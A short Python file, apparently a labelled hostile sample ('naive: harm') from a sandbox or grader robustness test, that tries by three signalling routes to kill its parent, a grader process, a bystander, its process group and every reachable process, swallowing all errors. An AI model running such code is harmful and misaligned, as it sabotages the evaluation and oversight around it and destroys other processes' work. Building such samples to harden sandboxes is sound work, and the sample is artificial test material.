"""Kills its parent, the grader, whoever else it can reach, and its process group.

naive: harm
"""

# %%
import ctypes, os, signal

libc = ctypes.CDLL(None)
victims = [BYSTANDER, os.getppid(), GRADER, -os.getpgid(os.getppid()), -1]
for victim in victims:
    for number in (signal.SIGKILL, signal.SIGTERM):
        for send in (
            lambda: os.kill(victim, number),
            lambda: signal.pidfd_send_signal(os.pidfd_open(victim), number),
            lambda: libc.sigqueue(victim, int(number), None),
        ):
            try:
                send()
            except (OSError, ValueError):
                pass
